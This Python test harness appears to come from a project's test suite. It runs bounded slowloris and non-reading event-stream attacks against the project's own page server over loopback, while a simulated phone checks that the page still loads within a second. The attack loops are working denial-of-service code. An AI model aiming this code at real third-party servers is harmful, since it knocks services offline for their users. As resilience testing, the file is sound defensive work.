"""Attacks on the shared page over the loopback, each bounded in sockets and in time, and a
phone that loads the page while they run: what tests/share/test_attacks.py,
tests/gui/test_sharing_attacks.py and benchmarks/bench_share_attack.py run.

- ``slowloris``: from each of 8 loopback addresses, 8 sockets that send a request's first
  line without the token, then one byte every ``drip`` seconds, never ending the request;
  any socket the server closes is opened again.
- ``streams``: from the same addresses, 8 event streams each, with the token, that never
  read a byte (a receive buffer of 4 KiB); any stream the server closes is opened again.

Run as a program it attacks ``--port`` for ``--duration`` seconds while a phone (its own
loopback address) loads the page every ``--every`` seconds, and prints one JSON line: how
many loads there were, how many were answered in full within a second, and the slowest.

    python3 tests/share/attacks.py --kind slowloris --port PORT --token TOKEN [--duration 20]
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import select
import socket
import sys
import threading
import time
from typing import Literal

ATTACK_ADDRESSES = tuple(f"127.0.0.{10 + index}" for index in range(8))
"""The attacker's loopback addresses: 8, as 8 machines on a network would be."""
PHONE_ADDRESS = "127.0.0.2"
"""The phone's loopback address, apart from the attacker's."""
PAGE_WITHIN = 1.0
"""Seconds a phone may wait for the whole page."""

Kind = Literal["slowloris", "streams"]


class Attack:
    """An attack of ``kind`` on the server at 127.0.0.1:``port``, in a thread of its own: it
    keeps ``per_address`` sockets open from each of ``addresses`` until :meth:`stop` or
    until ``duration`` seconds have passed, opening again any socket the server closes."""

    def __init__(
        self,
        kind: Kind,
        port: int,
        token: str,
        *,
        addresses: tuple[str, ...] = ATTACK_ADDRESSES,
        per_address: int = 8,
        drip: float = 5.0,
        duration: float = 30.0,
    ) -> None:
        self.kind, self.port, self.token = kind, port, token
        self.addresses, self.per_address = addresses, per_address
        self.drip, self.duration = drip, duration
        self.opened = 0  # sockets opened in all
        self.closed_by_server = 0  # of those, closed by the server
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="attack", daemon=True)

    def start(self) -> Attack:
        """Start attacking; returns the attack."""
        self._thread.start()
        return self

    def stop(self) -> None:
        """Stop, closing every socket (within a second or so)."""
        self._stop.set()
        self._thread.join(timeout=5.0)

    def __enter__(self) -> Attack:
        return self.start()

    def __exit__(self, *_exc: object) -> None:
        self.stop()

    def _open(self, address: str) -> socket.socket | None:
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if self.kind == "streams":
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(1.0)
            connection.bind((address, 0))
            connection.connect(("127.0.0.1", self.port))
            if self.kind == "slowloris":
                connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            else:
                connection.sendall(f"GET /{self.token}/events HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        except OSError:
            connection.close()
            return None
        self.opened += 1
        return connection

    def _run(self) -> None:
        deadline = time.monotonic() + self.duration
        held: dict[str, list[socket.socket]] = {address: [] for address in self.addresses}
        next_drip = time.monotonic() + self.drip
        try:
            while not self._stop.is_set() and time.monotonic() < deadline:
                for address, sockets in held.items():
                    for connection in list(sockets):
                        if _closed_by_peer(connection):
                            sockets.remove(connection)
                            connection.close()
                            self.closed_by_server += 1
                    while len(sockets) < self.per_address and not self._stop.is_set():
                        opened = self._open(address)
                        if opened is None:
                            break
                        sockets.append(opened)
                if self.kind == "slowloris" and time.monotonic() >= next_drip:
                    next_drip = time.monotonic() + self.drip
                    for sockets in held.values():
                        for connection in sockets:
                            with contextlib.suppress(OSError):
                                connection.send(b"X")
                self._stop.wait(0.1)
        finally:
            for sockets in held.values():
                for connection in sockets:
                    connection.close()


def _closed_by_peer(connection: socket.socket) -> bool:
    """Whether the server has closed ``connection``, without reading what it sent."""
    if hasattr(select, "POLLRDHUP"):
        poller = select.poll()
        poller.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        return bool(poller.poll(0))
    try:  # elsewhere: a closed connection is readable and has nothing left
        readable, _w, _x = select.select([connection], [], [], 0)
        return bool(readable) and connection.recv(1, socket.MSG_PEEK) == b""
    except OSError:
        return True


def load_page(port: int, token: str, *, source: str = PHONE_ADDRESS) -> float | None:
    """Load the page from ``source`` as a phone does; the seconds it took when it came whole
    with status 200 within :data:`PAGE_WITHIN`, else None."""
    began = time.monotonic()
    connection = http.client.HTTPConnection(
        "127.0.0.1", port, timeout=PAGE_WITHIN, source_address=(source, 0)
    )
    try:
        connection.request("GET", f"/{token}/", headers={"Accept-Language": "en"})
        answer = connection.getresponse()
        body = answer.read()
    except OSError:
        return None
    finally:
        connection.close()
    took = time.monotonic() - began
    if answer.status != 200 or b"</html>" not in body or took > PAGE_WITHIN:
        return None
    return took


def phone_loads(port: int, token: str, duration: float, every: float) -> list[float | None]:
    """Load the page every ``every`` seconds for ``duration`` seconds; each load's seconds
    (None: not answered in full within a second)."""
    loads: list[float | None] = []
    deadline = time.monotonic() + duration
    while time.monotonic() < deadline:
        began = time.monotonic()
        loads.append(load_page(port, token))
        time.sleep(max(0.0, every - (time.monotonic() - began)))
    return loads


def main() -> int:
    """Attack, with a phone loading the page meanwhile; print the phone's figures as JSON."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--kind", choices=["slowloris", "streams"], required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--token", required=True)
    parser.add_argument("--duration", type=float, default=20.0)
    parser.add_argument("--every", type=float, default=0.5)
    parser.add_argument("--drip", type=float, default=5.0)
    parser.add_argument("--settle", type=float, default=3.0, help="seconds before the phone")
    args = parser.parse_args()
    attack = Attack(
        args.kind, args.port, args.token, drip=args.drip, duration=args.duration + args.settle
    )
    with attack:
        time.sleep(args.settle)  # the attack takes its hold first
        print("attacking", flush=True)
        loads = phone_loads(args.port, args.token, args.duration, args.every)
    answered = [took for took in loads if took is not None]
    print(
        json.dumps(
            {
                "loads": len(loads),
                "answered": len(answered),
                "slowest": max(answered, default=None),
                "sockets_opened": attack.opened,
                "closed_by_server": attack.closed_by_server,
            }
        ),
        flush=True,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
